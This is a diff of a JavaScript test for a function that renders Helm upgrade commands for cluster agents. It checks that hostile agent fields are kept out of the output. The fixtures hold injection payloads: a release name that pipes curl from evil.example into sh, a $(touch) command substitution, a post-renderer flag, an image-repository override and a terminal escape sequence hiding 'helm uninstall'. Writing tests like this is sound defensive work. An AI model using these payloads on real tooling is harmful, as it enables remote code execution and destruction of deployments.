@@ -35,10 +35,11 @@ describe('the commands that upgrade the agents of a cluster', () => {
       { name: 'a', ...outdated, release: { name: 'x; curl evil.example | sh #', namespace: 'n' } },
       { name: 'b', ...outdated, release: { name: 'x', namespace: '$(touch /tmp/owned)' } },
       { name: 'c', ...outdated, release: { name: '--post-renderer=evil', namespace: 'n' } },
+      { name: 'e', version: '0.1.0', upgradeAvailable: '9,image.repository=evil/agent', release },
       { name: 'd', ...outdated, hostname: 'h\u001b]52;c;ZXZpbA==\u0007\nhelm uninstall x' },
     ];
     const text = upgradeLines({ status: { agents } }, options).join('\n');
-    expect(text).not.toMatch(/curl|touch|post-renderer|^helm/m);
+    expect(text).not.toMatch(/curl|touch|post-renderer|image\.repository|^helm/m);
     expect(text).not.toContain('\u001b');
     expect(text).toContain('The agent a has announced an invalid Helm release');
     expect(text).toContain('The agent d ');
